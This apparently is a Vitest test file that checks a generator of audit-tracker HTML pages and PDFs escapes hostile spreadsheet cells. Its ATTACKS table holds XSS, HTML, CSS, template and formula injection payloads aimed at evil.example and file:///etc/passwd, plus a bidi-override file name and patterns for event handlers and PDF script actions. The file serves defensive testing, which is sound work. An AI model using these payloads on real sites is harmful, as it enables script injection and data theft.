import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { openFile, openTestBrowser } from '../helpers/open-browser.ts';
import { listTags, readPageText } from '../helpers/read-page.ts';
import { findShrunkText, readPdf, squash, type ReadPdf } from '../helpers/read-pdf.ts';
import { listFiles, runBuild, type RunResult } from '../helpers/run-build.ts';
import { runInProcess } from '../helpers/run-in-process.ts';
import { openScratchFolder } from '../helpers/scratch-folder.ts';
import { SMALL_DATA, SMALL_MEETING, withRow, writeData } from '../helpers/write-data.ts';

// Each piece has a word of its own, by which it is found again as text. Cells are Markdown, so marks of it may be gone.
const ATTACKS: Readonly<Record<string, string>> = {
  script: '<script>fetch("https://evil.example/scriptword")</script>',
  'error handler': '<img src=x onerror=alert("imageword")>',
  'SVG that loads': '<svg onload=alert("svgword")><image href="file:///etc/passwd"/></svg>',
  'end of the page': '</td></tr></table></main></body><h1>endword</h1>',
  comment: '<!-- commentword --><plaintext>plainword',
  'style sheet':
    '<style>*{display:none}@page{size:1cm}</style> } body { content: "styleword"; } @import url(https://evil.example/x.css);',
  'frame and form':
    '<iframe srcdoc="<script>frameword</script>"></iframe><form action="https://evil.example"><input name=formword>',
  refresh:
    '<meta http-equiv="refresh" content="0;url=https://evil.example/refreshword"><base href="https://evil.example/">',
  'script in a link': '[scriptlinkword](javascript:alert(1)) and <a href="javascript:alert(1)">anchorword</a>',
  'file in a link': '[filelinkword](file:///etc/passwd) and file:///etc/hosts and \\\\evil\\shareword',
  'data in a link': '[datalinkword](data:text/html,<script>alert(1)</script>) and [vbword](vbscript:msgbox)',
  'picture in Markdown': '![pictureword](https://evil.example/pixel.png)',
  'link with quotes': '[quotelinkword](https://good.example/"onmouseover="alert(1))',
  figure: 'figureword {{figures.open}} and {{{figures.total}}} and {{> audits-covered}} and {{#each this}}x{{/each}}',
  references: 'referenceword &lt;script&gt; &#60;script&#62; &amp;lt; &#x202E;',
  formula: '=HYPERLINK("https://evil.example/";"formulaword")',
};
const BIDI = 'invoice \u202Egnp.exe\u202C';
const HIDDEN = 'zero\u200Bwidthword\uFEFF \u00ADsoft';
const LONG_WORD = 'W'.repeat(300);
const LONG_CELL = `longword ${'a b <b>c</b> & d. '.repeat(2_200)}`;
const WIDE_TABLE = [
  `| ${Array.from({ length: 12 }, (_, index) => `Column ${index + 1} of many`).join(' | ')} |`,
  `|${'---|'.repeat(12)}`,
  `| ${Array.from({ length: 12 }, (_, index) => `<b>tableword${index + 1}</b> unbreakable`).join(' | ')} |`,
].join('\n');
const GOOD_LINKS =
  '[good](https://good.example/page?a=1&b=2) and <mailto:audit@wolds.example> and https://good.example/plain';

const HEADINGS = [
  'Audit', 'Audit date', 'Reference', 'Title', 'Theme', 'Finding', 'Recommendation', 'Risk', 'Required outcome', 'Response', 'Owner',
  'Reason for revision', 'History', 'Update January to March 2026', 'Update April to June 2026', 'Evidence', 'Notes', 'Source page', 'Lead',
  'Action', 'Action owner',
]; // prettier-ignore

/** Every text cell of a row holds the same text; two rows may not have one key. */
function makeRow(reference: string, text: string): string {
  return HEADINGS.map((heading) => {
    if (heading === 'Audit date') return 'May 2025';
    const cell = heading === 'Reference' ? `${reference} ${text.slice(0, 60)}` : text;
    return `"${cell.replaceAll('"', '""')}"`;
  }).join(',');
}

const all = Object.values(ATTACKS).join('\n\n');
const scratch = openScratchFolder();
const out = join(scratch, 'out');
const SMALL_PAPER = SMALL_DATA.paper
  .replace('title: Internal audit recommendations', `title: 'Title <script>titleword</script> {{x}} </title>'`)
  .replace('author: Head of', `author: '<b>Head</b> of`)
  .replace('inspection and audit\n', `inspection and audit'\ndefaults: { status: In progress }\n`);
let built: RunResult;
let html = '';
let pdf: ReadPdf;

beforeAll(async () => {
  const rows = [
    ...Object.values(ATTACKS).map((text, index) => makeRow(`${index + 1}`, text)),
    makeRow('97', HIDDEN),
    makeRow('98', `${LONG_WORD} ${all}`),
    `"Long",May 2025,"99",${HEADINGS.slice(3)
      .map((heading) =>
        heading === 'Recommendation'
          ? `"${LONG_CELL}"`
          : heading.startsWith('Update April')
            ? `"${WIDE_TABLE}\n\n${GOOD_LINKS}"`
            : '',
      )
      .join(',')}`,
  ];
  const data = writeData(join(scratch, 'data'), {
    paper: SMALL_PAPER,
    recommendations: `${HEADINGS.join(',')}\n${rows.join('\n')}\n`,
  });
  built = await runBuild(['--data', data, '--out', out]);
  if (built.exitCode !== 0) throw new Error(built.standardOutput + built.standardError);
  html = readFileSync(join(out, 'intranet', SMALL_MEETING, '01-tracker.html'), 'utf8');
  pdf = await readPdf(join(out, 'members', SMALL_MEETING, '01-tracker.pdf'));
}, 120_000);

const ELEMENTS = new Set(
  'html head meta title link body a header div nav ul ol li main p figure h1 h2 h3 h4 h5 h6 dl dt dd section article table caption thead tbody tr th td footer span b i br svg path rect circle g line'.split(
    ' ',
  ),
);

/** The words by which a text is found again: `scriptword`. */
function wordsOf(text: string): string[] {
  return text.match(/[a-z]+word\b/g) ?? [];
}

function count(text: string, word: string): number {
  return text.split(word).length - 1;
}

test('builds without a request of any print, and with a PDF', () => {
  // A request fails the print, and the build then ends with 2.
  expect(built.exitCode).toBe(0);
  expect(built.standardOutput).toContain('19 recommendations');
  expect(listFiles(out)).toContain(`members/${SMALL_MEETING}/01-tracker.pdf`);
});

describe.each(Object.entries(ATTACKS))('%s in every cell', (_, attack) => {
  test('can be read as text on the page and in the PDF', () => {
    const onScreen = squash(readPageText(html));
    const onPaper = squash(pdf.pages.map(({ text }) => text).join(''));
    const words = wordsOf(attack);
    expect(words.length).toBeGreaterThan(0);
    for (const word of words) {
      expect({ word, times: count(onScreen, word) > 15 }).toEqual({ word, times: true });
      expect({ word, times: count(onPaper, word) > 15 }).toEqual({ word, times: true });
    }
  });
});

describe('the page of hostile cells', () => {
  test('shows tags and braces as they were written', () => {
    const text = readPageText(html);
    expect(text).toContain('<script>fetch("https://evil.example/scriptword")</script>');
    expect(text).toContain('<img src=x onerror=alert("imageword")>');
    expect(text).toContain('{{figures.open}} and {{{figures.total}}} and {{> audits-covered}}');
    expect(text).toContain('Title <script>titleword</script> {{x}} </title>');
  });

  test('has only elements of ours, and none that loads or runs anything', () => {
    const tags = listTags(html);
    expect([...new Set(tags.map(({ name }) => name))].filter((name) => !ELEMENTS.has(name))).toEqual([]);
    const attributes = new Set(tags.flatMap((tag) => [...tag.attributes.keys()]));
    expect(
      [...attributes].filter((name) =>
        /^(?:on|style$|src|srcdoc|action|formaction|background|poster|ping)/i.test(name),
      ),
    ).toEqual([]);
    expect(
      tags.filter(({ name }) => name === 'meta').map(({ attributes }) => attributes.get('http-equiv') ?? ''),
    ).toEqual(['', 'Content-Security-Policy', '', '']);
  });

  test('leads only to pages of ours, to https and to mail', () => {
    const targets = listTags(html).flatMap(({ name, attributes }) =>
      name === 'a' ? [attributes.get('href') ?? ''] : [],
    );
    const strange = targets.filter(
      (target) => !/^(?:#|https:\/\/|mailto:|(?:\.\.\/)?(?:recommendations\/)?[\w-]+\.(?:html|pdf)$)/.test(target),
    );
    expect(strange).toEqual([]);
    expect(targets).toContain('https://good.example/page?a=1&amp;b=2');
    expect(targets).toContain('mailto:audit@wolds.example');
  });

  test('holds no character that nobody can see', () => {
    expect(html).not.toMatch(/[\u00AD\u200B\u200E\u200F\u202A-\u202E\u2066-\u2069\uFEFF]/);
    expect(readPageText(html)).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(readPageText(html)).toContain('zerowidthword');
  });

  test('runs nothing and asks for nothing but its own files', { timeout: 60_000 }, async () => {
    const browser = await openTestBrowser();
    try {
      const file = join(out, 'intranet', SMALL_MEETING, '01-tracker.html');
      const { page, requests, complaints } = await openFile(browser, file, { width: 1280 });
      expect(complaints).toEqual([]);
      expect(requests.filter((url) => !/^(?:file:.*\/intranet\/|data:,$)/.test(url))).toEqual([]);
      expect(await page.title()).toContain('<script>titleword</script>');
    } finally {
      await browser.close();
    }
  });
});

describe('the PDF of hostile cells', () => {
  test('has links to https and to mail only, and can do nothing else', () => {
    const addresses = pdf.pages.flatMap((page) => page.addresses);
    expect(addresses.filter((address) => !/^(?:https:\/\/|mailto:)/.test(address))).toEqual([]);
    expect(addresses).toContain('mailto:audit@wolds.example');
    const bytes = readFileSync(join(out, 'members', SMALL_MEETING, '01-tracker.pdf'), 'latin1');
    expect(bytes.match(/\/(?:JavaScript|Launch|GoToR|SubmitForm|RichMedia)\b/g) ?? []).toEqual([]);
  });

  test('is not shrunk by a long word or a wide table, and nothing runs over the edge of a page', () => {
    expect(findShrunkText(pdf)).toEqual([]);
    const over = pdf.pages.flatMap(({ number, width, items }) =>
      items.filter((item) => item.x < 40 || item.x + item.width > width - 40).map(({ text }) => ({ number, text })),
    );
    expect(over).toEqual([]);
  });

  test('holds the whole of the long word, of the long cell and of the wide table', () => {
    const text = squash(pdf.pages.map((page) => page.text).join(''));
    expect(text).toContain(LONG_WORD);
    expect(count(text, squash('a b <b>c</b> & d.'))).toBeGreaterThan(2_150);
    for (let column = 1; column <= 12; column += 1) expect(text).toContain(`tableword${column}`);
  });

  test('has the title as it was written', () => {
    expect(pdf.title).toBe('Title <script>titleword</script> {{x}} </title>, 20 January 2026');
  });
});

describe('a cell whose text is turned round by hidden characters', () => {
  test('stops the build, and the line and the character are named', async () => {
    const data = writeData(join(scratch, 'turned'), {
      recommendations: withRow(3, `Stores,May 2025,4.2,${BIDI},Minor,x,,,,,In progress`),
    });
    const { exitCode, said } = await runInProcess(['--data', data, '--check']);
    expect(exitCode).toBe(1);
    expect(said).toMatch(/recommendations\.csv:3.*turns the direction of the text \(U\+202E/);
    expect(said).not.toContain('\u202E');
  });
});
